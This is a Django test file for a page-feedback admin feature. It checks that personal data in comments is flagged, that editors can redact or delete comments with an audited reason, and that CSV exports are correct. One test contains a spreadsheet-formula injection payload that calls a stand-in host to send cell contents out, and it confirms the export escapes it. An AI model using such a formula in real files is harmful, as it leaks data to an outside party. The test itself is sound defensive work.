"""Editors act on page feedback: content editors read it by default, comments that look like personal data are
flagged, an editor redacts a comment or deletes an answer with a reason (audited without the words), and the CSV
gives the page's public address and local times."""

import datetime
import json
from zoneinfo import ZoneInfo

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import Group, Permission
from django.test import Client

from cms.models import AuditEntry
from faq.events import GuidanceEvent
from faq.models import PageFeedback
from faq.personal_data import personal_data_signs
from tests.csv_downloads import csv_rows
from tests.factories.accounts import StaffUserFactory, TOTPDeviceFactory, verified_login
from tests.factories.cms import HelpPageFactory
from tests.factories.faq import FAQPageFactory, question

pytestmark = pytest.mark.django_db

CHILD_COMMENT = "My son Jamie Smith, born 14/03/2016, can't get in. Call me on 07700 900123."
FAMILY_COMMENT = "My son Jack Smith in Year 4 at Oakfield Primary has autism and this page did not say what to do."


def _publish(page):
    page.save_revision().publish()
    page.refresh_from_db()
    return page


@pytest.fixture
def faq(home_page):
    section = _publish(HelpPageFactory(parent=home_page, title="Help", slug="help"))
    return _publish(FAQPageFactory(parent=section, slug="faqs", questions=[question("How do I sign in?")]))


@pytest.fixture
def editor_client(content_editor):
    return verified_login(Client(), content_editor)


def _text(response):
    assert response.status_code == 200
    return BeautifulSoup(response.content, "html.parser").get_text(" ", strip=True)


def test_content_editors_hold_the_feedback_permissions_by_default(editor_client, faq):
    group = Group.objects.get(name="Content editor")
    codenames = set(group.permissions.filter(content_type__app_label="faq").values_list("codename", flat=True))

    assert codenames == {"view_pagefeedback", "change_pagefeedback", "delete_pagefeedback"}
    assert editor_client.get("/admin/reports/page-feedback/").status_code == 200
    assert editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/").status_code == 200


# What a visitor might write under "How could we improve this page?", and what the report marks. A false mark costs
# an editor a glance; a missed one leaves a child's details in a report that may be exported, so the rules lean
# towards marking (faq/personal_data.py says what they cannot tell).
NAME, YEAR, SCHOOL = "a person's name", "a year group with a name", "a school's name"
COMMENTS = [
    # Marked.
    (CHILD_COMMENT, ["a name with a date of birth", "a phone number", NAME]),
    ("DOB 3rd March 2015, please ring 01632 960111", ["a name with a date of birth", "a phone number"]),
    ("Email me at jo.bloggs@example.org", ["an email address"]),
    ("His UPN is A123456789012", ["a UPN (unique pupil number)"]),
    ("Call +44 (0)7700 900 123", ["a phone number"]),
    (FAMILY_COMMENT, [NAME, YEAR, SCHOOL]),
    ("my son Jack needs help with the forms", [NAME]),
    ("My 8 year old grandson Leo has an EHC plan", [NAME]),
    ("Our daughter, Amy, gets anxious at school", [NAME]),
    ("We have a boy called Sam who cannot read the letters", [NAME]),
    ("His name is Tom and he is 7", [NAME]),
    ("I'm Jack's mum and this did not help", [NAME]),
    ("Mrs Patel the SENCO sent us this link", [NAME]),
    ("She goes to St Mary's C of E Primary School", [SCHOOL]),
    ("He is at Kestrelford High School now", [SCHOOL]),
    ("They moved him to Riverside Academy", [SCHOOL]),
    ("Ali is in Year 6 and still waiting", [YEAR]),
    ("Amy Jones (Y6) needs a new plan", [YEAR]),
    ("Our address is 1 Mill Lane, XY1 2AB", ["a postcode"]),
    ("His NHS number is 943 476 5919", ["an NHS number"]),
    # Marked, though it names a button: the cost of marking every "called" followed by a capital.
    ("The button called Submit does nothing", [NAME]),
    # Not marked: nobody is named, or a name stands alone with nothing to say it is a child's or a family's.
    ("The answer about phones is out of date.", []),
    ("The page was updated on 12/03/2025 but still says 3 MB.", []),
    ("The page about EHC plans was clear", []),
    ("Thank you Sarah", []),
    ("Jack can't sign in", []),
    ("My son is in Year 4 and the page was too long", []),
    ("My son. He has autism and the page helped.", []),
    ("Does this apply to a Special School?", []),
    ("The Year 6 transition page was clear", []),
    ("Is there help for Year 11 leavers going to College?", []),
    ("Primary school SENCOs need this in plain words", []),
    ("The Local Offer link is broken and Appendix B is missing", []),
    ("Useful for Y6 2nd term planning", []),
    ("Reference 123 456 7890 did not work", []),
    ("", []),
]


@pytest.mark.parametrize(("comment", "signs"), COMMENTS)
def test_comments_that_look_like_personal_data_are_recognised(comment, signs):
    assert personal_data_signs(comment) == signs


def test_the_reports_flag_comments_that_look_like_personal_data(editor_client, faq):
    PageFeedback.objects.create(page=faq, rating="no", comment=CHILD_COMMENT)
    PageFeedback.objects.create(page=faq, rating="no", comment="Too long.")

    summary = BeautifulSoup(editor_client.get("/admin/reports/page-feedback/").content, "html.parser")
    detail = _text(editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/"))

    cells = [td.get_text(" ", strip=True) for td in summary.select("table tbody tr")[0].find_all("td")]
    assert cells[6:8] == ["2", "1"]  # comments, and comments flagged
    assert "2 answers: 0 yes, 0 neutral, 2 no." in detail
    assert "Looks like it holds a name with a date of birth, a phone number and a person's name" in detail
    assert detail.count("Looks like it holds") == 1
    assert detail.count("Redact or delete") == 2


def test_a_parent_naming_their_child_year_group_and_school_is_marked_in_the_report_and_its_csv(editor_client, faq):
    """The walk through the portal found this comment unmarked while a phone number was: it named a child, a year
    group and a school, and nothing beside a date of birth."""
    PageFeedback.objects.create(page=faq, rating="no", comment=FAMILY_COMMENT)

    summary = BeautifulSoup(editor_client.get("/admin/reports/page-feedback/").content, "html.parser")
    detail = _text(editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/"))
    export = editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/?export=csv")

    cells = [td.get_text(" ", strip=True) for td in summary.select("table tbody tr")[0].find_all("td")]
    assert cells[6:8] == ["1", "1"]  # comments, and comments flagged
    marked = "Looks like it holds a person's name, a year group with a name and a school's name"
    assert marked in detail and "1 answer: 0 yes, 0 neutral, 1 no." in detail  # not "1 answers"
    rows = csv_rows(export)
    assert rows[0]["Personal data?"] == marked


def _remove(client, page, feedback, **data):
    return client.post(f"/admin/reports/page-feedback/{page.pk}/{feedback.pk}/remove/", data)


def test_an_editor_redacts_a_comment_keeping_the_vote_and_the_audit_keeps_the_reason_not_the_words(
    editor_client, content_editor, faq
):
    feedback = PageFeedback.objects.create(page=faq, rating="no", comment=CHILD_COMMENT)
    form = _text(editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/{feedback.pk}/remove/"))
    assert (
        CHILD_COMMENT in form
        and "Looks like it holds a name with a date of birth, a phone number and a person's name." in form
    )

    response = _remove(editor_client, faq, feedback, action="redact", reason="It held a child's details.")

    assert response.status_code == 302
    feedback.refresh_from_db()
    assert feedback.comment == "" and feedback.comment_redacted_at is not None and feedback.rating == "no"
    entry = AuditEntry.objects.get(action=GuidanceEvent.FEEDBACK_REDACTED)
    assert entry.actor == content_editor and entry.reason == "It held a child's details."
    assert entry.target == feedback and entry.data == {"page_id": faq.pk}
    stored = json.dumps([entry.reason, entry.data, entry.from_state, entry.to_state])
    assert "Jamie" not in stored and "07700" not in stored
    detail = _text(editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/"))
    assert "Comment removed by an editor" in detail and "Jamie" not in detail


def test_an_editor_deletes_an_answer_with_a_reason(editor_client, content_editor, faq):
    feedback = PageFeedback.objects.create(page=faq, rating="yes", comment="jo@example.org")

    response = _remove(editor_client, faq, feedback, action="delete", reason="An email address.")

    assert response.status_code == 302
    assert not PageFeedback.objects.filter(pk=feedback.pk).exists()
    entry = AuditEntry.objects.get(action=GuidanceEvent.FEEDBACK_DELETED)
    assert entry.reason == "An email address." and entry.target_id == str(feedback.pk)
    assert "jo@example.org" not in json.dumps([entry.reason, entry.data])


def test_without_a_reason_nothing_is_removed_and_the_error_is_beside_the_field(editor_client, faq):
    feedback = PageFeedback.objects.create(page=faq, rating="no", comment=CHILD_COMMENT)

    response = _remove(editor_client, faq, feedback, action="redact", reason="")

    assert "Enter why you are removing it" in _text(response)
    feedback.refresh_from_db()
    assert feedback.comment == CHILD_COMMENT and not AuditEntry.objects.exists()


def test_feedback_on_another_page_is_a_404_and_staff_without_the_permission_are_refused(editor_client, faq, home_page):
    other = _publish(HelpPageFactory(parent=home_page))
    feedback = PageFeedback.objects.create(page=other, rating="no", comment="Words")
    assert _remove(editor_client, faq, feedback, action="delete", reason="x").status_code == 404

    viewer = StaffUserFactory()
    viewer.user_permissions.add(*Permission.objects.filter(codename__in=["access_admin", "view_pagefeedback"]))
    TOTPDeviceFactory(user=viewer)
    client = verified_login(Client(), viewer)
    assert _remove(client, other, feedback, action="delete", reason="x").status_code in (302, 403)
    viewer.user_permissions.add(Permission.objects.get(codename="change_pagefeedback"))
    viewer = type(viewer).objects.get(pk=viewer.pk)
    refused = _remove(client, other, feedback, action="delete", reason="x")
    assert refused.status_code == 200 and "Select a valid choice" in _text(refused)
    assert PageFeedback.objects.filter(pk=feedback.pk).exists()


def test_the_csv_gives_the_public_address_and_local_time_to_the_second(editor_client, faq):
    feedback = PageFeedback.objects.create(page=faq, rating="no", comment="Too long.")
    summer = datetime.datetime(2026, 7, 1, 11, 30, 15, 123456, tzinfo=datetime.UTC)
    PageFeedback.objects.filter(pk=feedback.pk).update(created_at=summer)

    summary = editor_client.get("/admin/reports/page-feedback/?export=csv")
    detail = editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/?export=csv")

    rows = csv_rows(summary)
    assert rows[0]["Address"] == "http://localhost/help/faqs/"
    assert rows[0]["Latest answer"] == "2026-07-01 12:30:15"
    assert summer.astimezone(ZoneInfo("Europe/London")).hour == 12
    detail_rows = csv_rows(detail)
    assert detail_rows[0]["When"] == "2026-07-01 12:30:15"
    assert detail_rows[0]["How could we improve this page?"] == "Too long."


def test_a_comment_written_as_a_spreadsheet_formula_downloads_as_text(editor_client, faq):
    """A visitor's comment is written by anyone: opened in Excel, the CSV must not run it (OWASP's CSV injection)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    PageFeedback.objects.create(page=faq, rating="no", comment=formula)

    detail = editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/?export=csv")

    rows = csv_rows(detail)
    assert rows[0]["How could we improve this page?"] == f"'{formula}"


def test_a_comment_sent_again_after_a_redaction_is_shown_to_editors_not_hidden_as_removed(editor_client, faq):
    """A redacted comment's voter could comment again from the same session: the words were stored but the redaction
    mark stayed, so the report and the CSV said "removed" and no editor saw the new words."""
    voter = Client()
    action = f"/feedback/{faq.pk}/"
    assert voter.post(action, {"rating": "no"}).status_code == 302
    voter.post(action, {"action": "comment", "comment": CHILD_COMMENT})
    feedback = PageFeedback.objects.get()
    _remove(editor_client, faq, feedback, action="redact", reason="It held a child's details.")

    again = voter.post(action, {"action": "comment", "comment": "Jamie still can't sign in, call 07700 900123."})

    assert again.status_code == 302
    feedback.refresh_from_db()
    assert feedback.comment_redacted_at is None
    detail = _text(editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/"))
    assert "Jamie still can't sign in" in detail and "Comment removed by an editor" not in detail
    assert "Redact or delete" in detail
    export = editor_client.get(f"/admin/reports/page-feedback/{faq.pk}/?export=csv")
    rows = csv_rows(export)
    assert rows[0]["How could we improve this page?"] == "Jamie still can't sign in, call 07700 900123."
    assert AuditEntry.objects.filter(action=GuidanceEvent.FEEDBACK_REDACTED).count() == 1
